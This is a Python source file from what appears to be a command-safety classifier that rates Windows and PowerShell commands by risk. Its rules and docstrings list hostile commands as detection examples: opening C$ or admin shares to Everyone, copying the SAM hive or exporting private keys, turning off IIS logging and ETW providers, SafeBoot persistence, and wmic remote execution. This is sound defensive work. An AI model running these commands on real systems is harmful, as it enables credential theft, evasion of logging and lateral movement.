            scope.add(C, "exfiltration", reason, m.start(), m.end())
            return True
    made = re.search(r"\.create\s*\(|-(?:method)?name\s+['\"]?create\b|\bcall\s+create\b", low)
    if made is not None:
        scope.add(M, "system-config", "creates a network share", made.start(), made.end())
    return False


# (n19w) the accounts that are anyone at all: a share they may write to is open to every
# machine on the network (planted files, ransomware spread, data taken)
_ANYONE = re.compile(
    r"(?i)\A(?:everyone|jeder|tout le monde|todos|anonymous(?: logon)?"
    r"|nt authority\\anonymous logon|guests?|builtin\\guests|s-1-1-0|s-1-5-7)\Z"
)


def _anyone(accounts: str) -> bool:
    """True when a list of account names (comma-separated; a PowerShell array's items come
    joined by blanks) holds one that is anyone at all."""
    parts = accounts.split(",") + accounts.split()
    return any(_ANYONE.match(a.strip().strip("'\"")) for a in parts[:32])


def _share_open_to_anyone(cmd: Cmd, what: str, where: Word) -> None:
    cmd.add(
        C,
        "share-open",
        f"{cmd.name} {what}: every account on the network may change or plant files",
        where,
    )


@handles("grant-smbshareaccess", windows_only=True)
def _grant_share(cmd: Cmd) -> None:
    """(n18w) `Grant-SmbShareAccess -Name C$ -AccountName Everyone -AccessRight Full`: an
    administrative share (a drive root, ADMIN$ the Windows folder) opened to an account is
    exfiltration like New-SmbShare of that folder; another share: a permission change."""
    name = _named_value(cmd, "name", 1)
    ops = [w for w in cmd.args if not w.text.startswith("-")]
    share = name if name is not None else (ops[0] if ops else None)
    text = share.text.strip("'\"").lower() if share is not None else ""
    if re.fullmatch(r"[a-z]\$|admin\$", text):
        cmd.add(C, "exfiltration", f"{cmd.name} opens the administrative share {text}", share)
        return
    account = _named_value(cmd, "accountname", 2)
    right = _named_value(cmd, "accessright", 2)
    if account is None and len(ops) > 1:
        account = ops[1]
    if right is None and len(ops) > 2:
        right = ops[2]
    if (
        account is not None
        and right is not None
        and _anyone(account.text)
        and right.text.strip("'\"").lower() in ("full", "change")
    ):
        _share_open_to_anyone(cmd, f"grants {account.text} {right.text} access", account)
    else:
        cmd.add(M, "system-config", f"{cmd.name} changes who may use a share")


@handles("new-smbshare", windows_only=True)
def _new_smbshare(cmd: Cmd) -> None:
    """`New-SmbShare -Name x -Path C:\\ -FullAccess Everyone`: a drive root, a profile or a
    system folder shared with other machines is exfiltration (h17); another folder a write."""
    path = cmd.option_value("-path")
    if path is None:
        ops = cmd.operands()
        path = ops[1] if len(ops) >= 2 else None
    if path is not None and not path.dynamic and shared_protected(path.text, cmd):
        cmd.add(C, "exfiltration", f"New-SmbShare shares {path.text} with other machines", path)
        return
    for option in ("fullaccess", "changeaccess"):
        given = _named_value(cmd, option, 2)
        if given is not None and _anyone(given.text):
            _share_open_to_anyone(cmd, f"gives {given.text} {option[:-6]} access", given)
            return
    cmd.add(M, "system-config", "New-SmbShare shares a folder with other machines")


def credential_copy(cmd: Cmd) -> bool:
    """`esentutl /y /vss …\\config\\SAM`, `copy …\\HarddiskVolumeShadowCopy1\\…\\SAM`,
    `certutil -exportPFX …`: password hashes or a private key copied out (in any shell)."""
    name = cmd.name.lower()
    if name not in _COPIERS:
        return False  # (certutil is a copier too)
    texts = cmd.texts()
    if name in ("certutil", "certutil.exe") and any(
        t.lower().lstrip("-/") == "exportpfx" for t in texts
    ):
        cmd.add(C, "credential-dump", "certutil exports a certificate with its private key")
        return True
    if name in _COPIERS and any(_HIVE.search(t.replace("/", "\\")) for t in texts):
        cmd.add(C, "credential-dump", f"{name} copies a hive or database of password hashes")
        return True
    return False


def web_logging_off(cmd: Cmd) -> bool:
    """IIS: `appcmd set config … /section:httplogging /dontLog:true`, the same through
    `Set-WebConfigurationProperty … -Name dontLog -Value True`: requests stop being logged."""
    name = cmd.name.lower().removesuffix(".exe")
    if not name.endswith("appcmd") and name != "set-webconfigurationproperty":
        return False
    text = " ".join(cmd.texts()).lower()
    if name.endswith("appcmd") and re.search(r"dontlog:\s*true|logfile\.enabled:\s*false", text):
        cmd.add(C, "disable-security", "appcmd turns IIS request logging off")
        return True
    if name == "set-webconfigurationproperty" and re.search(
        r"\bdontlog\b.*\b(true|1)\b|logfile.*enabled.*\b(false|0)\b", text
    ):
        cmd.add(C, "disable-security", f"{name} turns IIS request logging off")
        return True
    return False


# `Get-Service NAME |` (or gsv, -Name, quoted) feeding the next cmdlet of the pipeline.
# (n17w) the services a `Get-Service …` stage earlier in the pipeline passes on: by -Name
# (or its positional), -DisplayName, or a Where-Object test of Name/ServiceName/DisplayName;
# an unfiltered listing passes every service, the core ones with it.
_GET_SERVICE_AT = re.compile(r"(?i)(?<![\w-])(?:get-service|gsv)(?![\w-])")
_SERVICE_PICK = re.compile(
    r"(?i)(?:(?<![\w-])-(name|displayname|include)\s+|"
    r"\b(?:\$_\.|\$psitem\.)?(name|servicename|displayname)\s+-(?:c?eq|c?like|c?match|in)\s+)"
    r"((?:'[^']*'|\"[^\"]*\"|[\w*?%.-]+)(?:\s*,\s*(?:'[^']*'|\"[^\"]*\"|[\w*?%.-]+))*)"
)
_SERVICE_DISPLAY = {
    "remote procedure call (rpc)": "RpcSs",
    "rpc endpoint mapper": "RpcEptMapper",
    "dcom server process launcher": "DcomLaunch",
    "plug and play": "PlugPlay",
    "security accounts manager": "SamSs",
    "user profile service": "ProfSvc",
    "group policy client": "gpsvc",
    "local session manager": "LSM",
    "background tasks infrastructure service": "BrokerInfrastructure",
    "power": "Power",
    "netlogon": "Netlogon",
}


# `$_`, `$_.Name`, `$PSItem.ServiceName`: the piped item's name
_ITEM_NAME = re.compile(r"(?i)\A\$(?:_|psitem)(?:\.(?:name|servicename))?\Z")


def _sc_service(cmd: Cmd, text: str) -> str:
    """`sc delete X`'s service; (n17w) `$_.Name` in a loop over `Get-Service …` is the
    service that listing picks."""
    if cmd.scope.family != "powershell" or not _ITEM_NAME.match(text):
        return text
    piped = piped_service(cmd)
    return "RpcSs" if piped == "*" else piped or text


def piped_service(cmd: Cmd) -> str | None:
    """The service a `Get-Service` stage before this command in the same pipeline names (a
    core one when any of its picks is core; `*` when it picks nothing: every service)."""
    src = cmd.scope.source
    line = src[src.rfind("\n", 0, max(cmd.start, 0)) + 1 : max(cmd.start, 0)][-600:]
    if "|" not in line or ("sv" not in line.lower() and "service" not in line.lower()):
        return None
    found = list(_GET_SERVICE_AT.finditer(line))
    if not found:
        return None
    tail = line[found[-1].end() :]
    if ";" in tail or "|" not in tail:
        return None  # (another statement began: not this pipeline)
    getter, _, rest = tail.partition("|")
    picks: list[str] = []
    for m in _SERVICE_PICK.finditer(tail):
        picks += [v.strip().strip("'\"") for v in m.group(3).split(",")]
    head = getter.strip().split()
    if head and not head[0].startswith("-"):
        picks += [v.strip("'\"") for v in head[0].split(",")]
    if not picks:
        return (
            "*" if not re.search(r"(?i)where-object|\?\s*\{|\?\s+\w|select-object", rest) else None
        )
    for pick in picks:
        name = _SERVICE_DISPLAY.get(pick.lower(), pick)
        core = boot_service_like(name) if re.search(r"[*?%]", name) else name
        if core is not None and boot_service(core):
            return core
    return picks[0]


def protection_hooks(cmd: Cmd) -> bool:
    """cmd's `ftype`/`assoc` (what runs when a file type opens), ETW providers removed from
    an autologger, mail protection rules off, security services stopped, local/domain
    accounts disabled."""
    name = cmd.name.lower()
    family = cmd.scope.family
    if family == "cmd" and name in ("ftype", "assoc") and any("=" in t for t in cmd.texts()):
        cmd.add(C, "persistence", f"{name} changes the program that opens a file type")
        return True
    if family != "powershell" or "-" not in name:
        return False  # (every rule below is about a PowerShell Verb-Noun cmdlet)
    if family == "powershell" and name in ("remove-etwtraceprovider", "set-etwtraceprovider"):
        cmd.add(C, "disable-security", f"{name} changes what an event-log session records")
        return True
    if name.endswith("rule") and re.fullmatch(  # (sb22: a suffix test before the pattern)
        r"(disable|remove)-(antiphish|safelinks|safeattachment|malwarefilter|hostedcontentfilter)rule",
        name,
    ):
        cmd.add(C, "disable-security", f"{name} turns off a mail protection rule")
        return True
    if family == "powershell" and name in ("remove-service", "stop-service", "suspend-service"):
        ops = [t for t in cmd.texts() if not t.startswith("-")]
        gone = next((t for t in ops if boot_service(t)), None) if name == "remove-service" else None
        if gone is None and any(security_label(t) for t in ops):
            # (n19w: a core service that is also a security one, EventLog, removed: below)
            cmd.add(C, "disable-security", f"{name} stops or removes a security service")
            return True
        if name == "remove-service" and (not ops or all(_ITEM_NAME.match(t) for t in ops)):
            # `Get-Service ProfSvc | Remove-Service`, `… | % { Remove-Service $_.Name }`: the
            # service comes down the pipeline (every service, when nothing picks one)
            piped = piped_service(cmd)
            gone = "RpcSs" if piped == "*" else piped
            gone = gone if gone is not None and boot_service(gone) else None
        if gone is not None:
            cmd.add(
                B, "registry-root", f"Remove-Service deletes {gone}, which Windows needs to boot"
            )
            return True
    if family == "powershell" and name in ("disable-localuser", "disable-adaccount"):
        cmd.add(C, "account", f"{name} locks an account out")
        return True
    return False


@handles("appcmd", "appcmd.exe", windows_only=True)
def _appcmd(cmd: Cmd) -> None:
    """IIS `appcmd`: `list`/`search` print configuration; other verbs change the server
    (turning request logging off is caught by `web_logging_off`)."""
    verb = next((t.lower() for t in cmd.texts() if not t.startswith(("/", "-"))), "")
    if verb not in ("list", "search", "") and not _help(cmd):
        cmd.add(M, "system-config", f"appcmd {verb} changes the IIS configuration")


@handles("fhmanagew", "fhmanagerw", windows_only=True)
def _file_history(cmd: Cmd) -> None:
    """(n17w) File History's manager (FhManagew.exe as Windows ships it, n18w; the misspelt
    name kept): `-cleanup N` deletes the backed-up versions older than N
    days (0: every version, blocked: every backup deleted); `-backupnow` runs a backup."""
    low = [w.text.lower() for w in cmd.args]
    if "-cleanup" in low or "/cleanup" in low:
        at = low.index("-cleanup") if "-cleanup" in low else low.index("/cleanup")
        days = low[at + 1] if at + 1 < len(low) else ""
        if days.isdigit() and int(days) == 0:
            cmd.add(B, "delete-backups", "FhManagew -cleanup 0 deletes every File History version")
            return
        cmd.add(
            M,
            "backup",
            "FhManagew -cleanup deletes File History versions older than the age given",
        )
        return
    cmd.add(M, "backup", "FhManagew runs or changes File History backups")


# certmgr's switches that take a value (`/r localMachine`, `/sha1 HASH`, `/n NAME`, ...).
_CERTMGR_VALUED = frozenset({"r", "sha1", "n", "7", "e", "y", "f", "v"})


@handles("certmgr", windows_only=True)
def _certmgr(cmd: Cmd) -> None:
    """(n17w) `certmgr /del [/c] /all|/sha1 H|/n NAME [/s] [/r localMachine] STORE`: `/all`
    empties the store, the others take one certificate out. The machine's Root/AuthRoot/CA
    stores are trust stores (emptied: blocked, one certificate: critical, the session-16/17
    trust-store conventions); the caller's own stores are a scoped delete."""
    from aintern_ls.safety.winpaths import ONE_TRUSTED_CERT, TRUST_STORES

    low = [w.text.lower() for w in cmd.args]
    flags = [a[1:] for a in low if a[:1] in "-/" and len(a) > 1]
    if "?" in flags or "h" in flags or "help" in flags:
        return
    if "del" not in flags:
        if "add" in flags or "put" in flags:
            cmd.add(M, "system-config", "certmgr adds certificates to a store")
        return  # a listing (`certmgr /c /s root`) only prints
    where, stores, skip = "currentuser", [], False
    for k, a in enumerate(low):
        if skip:
            skip = False
            continue
        if a[:1] in "-/" and len(a) > 1:
            if a[1:] in _CERTMGR_VALUED:
                skip = True
                if a[1:] == "r" and k + 1 < len(low):
                    where = low[k + 1].strip("'\"")
            continue
        stores.append(cmd.args[k])
    store = stores[-1] if stores else None
    name = store.text.lower().strip("'\"") if store is not None else ""
    if where != "localmachine" or name not in TRUST_STORES:
        cmd.add(D, "delete", "certmgr deletes certificates from a store", store)
        return
    if "all" in flags:
        cmd.add(
            B,
            "cert-store-wipe",
            f"certmgr empties a store the whole machine trusts (LocalMachine\\{name}): TLS,"
            " signed drivers and updates stop verifying",
            store,
        )
        return
    cmd.add(
        C,
        ONE_TRUSTED_CERT,
        f"certmgr removes a certificate the whole machine trusts (LocalMachine\\{name})",
        store,
    )


@handles("cmdkey", "cmdkey.exe", windows_only=True)
def _cmdkey(cmd: Cmd) -> None:
    """`cmdkey /list` prints stored credential targets; `/add`, `/generic`, `/delete`
    change them."""
    if not all(t.lower().startswith("/list") for t in cmd.texts()) or not cmd.texts():
        cmd.add(M, "credentials", "cmdkey changes stored credentials")


# The rules below read a command by its program's base name (`name`), its argument texts
# (`texts`), lower-cased (`low`) and joined (`joined`); each returns whether it applied.
_SAFEBOOT = re.compile(r"(?i)\\Control\\SafeBoot\\(?:Minimal|Network)\\")
_URL_OR_SHARE = re.compile(r"(?i)\b(?:https?|ftp)://|^\\\\")


def safe_boot_service(cmd: Cmd, name: str, texts: list[str], low: list[str]) -> bool:
    """A service registered under the `SafeBoot` registry keys runs in Safe Mode, where most
    security tools do not (ransomware's way round EDR)."""
    if not (
        name in ("reg", "new-item", "new-itemproperty", "set-itemproperty", "ni")
        and _SAFEBOOT.search(" ".join(texts))
    ):
        return False
    if not (name == "reg" and low[:1] == ["query"]):
        cmd.add(
            C,
            "persistence",
            "a service registered to run in Safe Mode, where security tools do not",
        )
    return True


def certoc_download(cmd: Cmd, name: str, texts: list[str]) -> bool:
    """`certoc -GetCACAPS URL`: a LOLBin that downloads what the URL serves."""
    if name == "certoc" and any(_URL_OR_SHARE.search(t) for t in texts):
        cmd.add(C, "download", "certoc downloads from a URL (a LOLBin download)")
        return True
    return False


def app_installer_url(cmd: Cmd, name: str, texts: list[str]) -> bool:
    """`ms-appinstaller:` URLs: App Installer downloads and installs the package they name."""
    if "ms-appinstaller:" not in cmd.argv.joined_low and not name.startswith("ms-appinstaller:"):
        return False  # (what the test below needs, in one search)
    if any(t.strip("'\"").lower().startswith("ms-appinstaller:") for t in texts) or name.startswith(
        "ms-appinstaller:"
    ):
        cmd.add(C, "install", "an ms-appinstaller: URL downloads and installs a package")
        return True
    return False


def wmic_remote_or_killer(
    cmd: Cmd, name: str, texts: list[str], low: list[str], joined: str
) -> bool:
    """`wmic /node:HOST process call create CMD`: a process started on another machine;
    `wmic process … call terminate|delete` of a security or logging agent."""
    if name != "wmic":
        return False
    if any(t.startswith("/node:") for t in low) and re.search(
        r"\bprocess\s+call\s+create\b", joined
    ):
        cmd.add(C, "remote-exec", "wmic /node: starts a process on another machine")
        return True
    if re.search(r"\bcall\s+terminate\b|\bdelete\b", joined):
        if re.search(r"\bprocess\b", joined) and security_component(" ".join(texts)):
            cmd.add(C, "disable-security", "wmic kills a security or logging agent")
        return True
    return False


persist.WINDOWS_WRITE_TARGET[:] = [windows_write_target]
